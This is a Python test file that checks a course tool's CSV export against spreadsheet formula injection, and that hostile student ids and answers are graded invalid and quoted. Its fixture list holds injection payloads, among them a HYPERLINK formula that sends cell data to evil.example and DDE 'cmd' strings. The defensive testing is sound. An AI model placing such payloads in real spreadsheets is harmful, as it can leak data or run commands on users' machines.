"""CSV injection: key.csv and grades.csv never start a cell with a formula character
unless the cell is a plain number; the answers grade reads are never rewritten."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from symderiv.course import build as B
from symderiv.course.csvfile import FORMULA_START, safe_cell
from symderiv.course.grading import grade, grade_one, grades_csv

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "own_problem"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.fixture(scope="module")
def own():
    from symderiv.problems.plugins import load_dir
    return load_dir(EXAMPLE)


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def _formula_free(rows):
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a plain number may start with + or -


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cells_get_a_quote_and_keep_their_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.5", "+3", "-1e-07", "1.5E+3", ".5", "0", "12"])
def test_plain_numbers_stay_numbers(text):
    assert safe_cell(text) == text


def test_other_text_is_unchanged():
    for text in ["a=b", "x + 1", "w=1;b=-1", "'quoted", "", " =1", "neuron-loss.q1", "cannot read"]:
        assert safe_cell(text) == text
    assert safe_cell(None) == "" and safe_cell(-0.25) == "-0.25"
    assert safe_cell("-x^2") == "'-x^2" and safe_cell("-inf") == "'-inf"


def test_grades_csv_with_hostile_students_and_answers_and_a_minus_answer(tmp_path, own):
    r = B.build_course(["neuron-loss"], str(tmp_path / "s"), seed=11, variants=2)
    key = json.loads((tmp_path / "s" / "key.json").read_text())["entries"]
    # v02's dL/dw is an expression that starts with a minus: the key stores it as typed,
    # and a student who types it that way is graded correct
    neg = next(e for e in key if e["kind"] == "expression" and e["expected"].startswith("-"))
    num = next(e for e in key if e["kind"] == "number" and e["expected"] < 0)
    answers = tmp_path / "answers.csv"
    with answers.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["student", "question", "answer"])
        w.writerow([neg["student"], neg["question"], neg["expected"]])
        w.writerow([num["student"], num["question"], repr(num["expected"])])
        w.writerow([neg["student"], neg["question"], "-(" + neg["expected"][1:] + ")*1"])
        for i, h in enumerate(HOSTILE):
            w.writerow([h, neg["question"], "1"])          # unknown student: invalid, id echoed
            w.writerow([neg["student"], neg["question"], h])  # a hostile answer: invalid
    rows = grade(tmp_path / "s" / "key.json", answers)
    assert grade_one(neg, neg["expected"])[0] == grade_one(neg, "-(" + neg["expected"][1:] + ")*1")[0] == "correct"
    # the same question answered again: the last row counts, the earlier ones are superseded
    assert [x["status"] for x in rows[:3]] == ["superseded", "correct", "superseded"]
    assert all(x["status"] == "invalid" for x in rows[3::2]) and "unknown student" in rows[3]["reason"]
    assert [x["status"] for x in rows[4::2]] == ["superseded"] * (len(HOSTILE) - 1) + ["invalid"]
    # ids are read as given (only surrounding white space is dropped), never unquoted or mangled
    assert [x["student"] for x in rows[3::2]] == [h.strip() for h in HOSTILE]
    data = grades_csv(rows)
    cells = _cells(data)
    assert cells[0] == ["student", "question", "status", "reason", "points", "max_points", "line"]
    _formula_free(cells)
    assert [c[0] for c in cells[4::2]] == ["'" + h.strip() for h in HOSTILE]
    assert cells[2][:3] == [num["student"], num["question"], "correct"]
    assert r["entries"] == key


def test_key_csv_quotes_expressions_and_keeps_numbers(tmp_path, own):
    roster = tmp_path / "roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "name"])
        for i, h in enumerate(HOSTILE[:4]):
            w.writerow([f"s{i}", h])
    students = B.read_roster(roster)
    assert [n for _, n in students] == [h.strip() for h in HOSTILE[:4]]  # input kept
    B.build_course(["neuron-loss"], str(tmp_path / "k"), seed=3, roster=students)
    key = json.loads((tmp_path / "k" / "key.json").read_text())["entries"]
    cells = _cells((tmp_path / "k" / "key.csv").read_bytes())
    _formula_free(cells)
    header, body = cells[0], cells[1:]
    assert len(body) == len(key)
    col = header.index("expected")
    for row, e in zip(body, key):
        if e["kind"] == "number":
            assert float(row[col]) == e["expected"]            # a number, also when negative
        else:
            assert row[col] in (e["expected"], "'" + e["expected"])
            assert row[col].startswith("'") == e["expected"].startswith("-")
    assert any(float(r[col]) < 0 for r, e in zip(body, key) if e["kind"] == "number")
    assert any(r[col].startswith("'-") for r in body)
    # the hostile names reach the sheets only escaped for LaTeX
    tex = (tmp_path / "k" / "s0-exercise.tex").read_text()
    assert "HYPERLINK" in tex and '"http' not in tex
